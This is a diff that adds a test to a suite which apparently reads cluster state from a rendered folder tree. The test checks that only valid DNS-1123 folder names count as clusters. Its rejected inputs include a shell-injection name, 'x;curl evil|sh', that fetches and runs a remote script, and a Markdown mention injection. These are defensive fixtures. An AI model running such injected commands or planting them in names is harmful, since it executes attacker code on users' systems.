@@ -17,6 +17,13 @@ describe('reading a rendered tree\'s state', () => {
     expect([...clustersOf(tree)]).toEqual(['cluster-a']);
   });
 
+  it('takes only a folder named as a cluster (a DNS-1123 label) for one: its name goes into commands and Markdown', () => {
+    // A base commit's output folder arrives in a pull request: a folder named like a shell command or
+    // Markdown is a file that differs, never a cluster whose teardown and rmpeer the next steps print.
+    const names = ['x;curl evil|sh', 'x`@octocat', 'Upper', '-a', 'a-', 'a'.repeat(64), 'a b'];
+    expect([...clustersOf(new Map([...names, 'cluster-z', 'a'.repeat(63)].map((name) => [file(name), config('10.33.0.0/16')])))]).toEqual(['cluster-z', 'a'.repeat(63)]);
+  });
+
   it('reads subnet, pod network, service CIDR and peers, with Pharos\'s defaults from their one home', () => {
     const state = meshStateOf(new Map([[file('cluster-a'), config('10.33.0.0/16')]]));
     expect(state.get('cluster-a')).toEqual({ subnet: '10.33.0.0/16', podNetworkCidr: PHAROS_DEFAULT_POD_NETWORK_CIDR, serviceCidr: PHAROS_DEFAULT_SERVICE_CIDR, peers: ['198.51.100.11'] });
